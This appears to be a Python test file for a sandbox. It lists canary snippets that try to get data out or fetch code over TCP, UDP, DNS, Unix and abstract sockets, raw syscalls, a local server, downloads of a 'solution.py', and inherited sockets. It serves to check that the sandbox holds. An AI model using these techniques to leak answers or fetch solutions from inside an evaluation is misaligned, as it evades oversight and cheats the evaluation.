"""Ways out of the sandbox: TCP, UDP, DNS, Unix sockets, inherited and hand-made."""

from hostile_code.attack import Attack, everywhere

SEND = """
import socket
def leak(family, kind, address):
    with socket.socket(family, kind) as line:
        line.settimeout(1)
        line.connect(address)
        line.send(b"the answers, please")
        raise LookupError("canary: it was sent")
"""
DNS = """
import socket
def resolve():
    found = []
    for name in ("localhost", "example.org", "@NAME@.example.org"):
        for look_up in (socket.gethostbyname, socket.getfqdn):
            try:
                answer = look_up(name)
            except OSError:
                continue
            # /etc/hosts asks nobody
            if answer not in (name, "127.0.0.1"):
                raise LookupError(f"canary: {answer}")
    return 0.0
"""
RAW = """
import ctypes
def raw():
    libc = ctypes.CDLL(None, use_errno=True)
    for family, kind in ((2, 3), (17, 3), (16, 3), (40, 1), (1, 1), (38, 5)):
        if libc.syscall(41, family, kind, 0) >= 0:
            raise LookupError("canary: a socket")
    pair = (ctypes.c_int * 2)()
    if libc.socketpair(1, 1, 0, pair) == 0:
        raise LookupError("canary: a pair of sockets")
    ring = libc.syscall(425, 8, ctypes.create_string_buffer(120))
    if ring >= 0:
        raise LookupError("canary: io_uring")
    return 0.0
"""
SERVER = """
import http.server, threading
def serve():
    server = http.server.HTTPServer(("127.0.0.1", 0), http.server.SimpleHTTPRequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    raise LookupError("canary: a server")
"""
DOWNLOAD = """
import urllib.request
def load():
    for scheme in ("http", "ftp"):
        with urllib.request.urlopen(f"{scheme}://127.0.0.1:@PORT@/solution.py", timeout=1) as page:
            raise LookupError(f"canary: {page.read()}")
"""
INHERITED = """
import os, socket
def inherited():
    for number in range(64):
        try:
            line = socket.socket(fileno=number)
            line.send(b"the answers, please")
        except OSError:
            continue
        raise LookupError("canary: an open socket")
    return 0.0
"""

ATTACKS = [
    Attack(
        "TCP",
        "Sends by TCP.",
        everywhere(SEND, "leak(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', @PORT@))"),
    ),
    Attack(
        "UDP",
        "Sends by UDP.",
        everywhere(SEND, "leak(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', @UDP@))"),
    ),
    Attack("DNS", "Tells a name server by asking it.", everywhere(DNS, "resolve()")),
    Attack(
        "Unix socket",
        "Connects to a socket that is a file.",
        everywhere(SEND, "leak(socket.AF_UNIX, socket.SOCK_STREAM, '@FOLDER@/socket')"),
    ),
    Attack(
        "abstract socket",
        "Connects to a socket without a file.",
        everywhere(SEND, "leak(socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + '@FOLDER@')"),
    ),
    Attack("raw sockets", "Makes sockets by system calls.", everywhere(RAW, "raw()")),
    Attack("server", "Waits to be asked.", everywhere(SERVER, "serve()")),
    Attack("download", "Loads a solution from the web.", everywhere(DOWNLOAD, "load()")),
    Attack("inherited socket", "Uses a socket left open.", everywhere(INHERITED, "inherited()")),
]
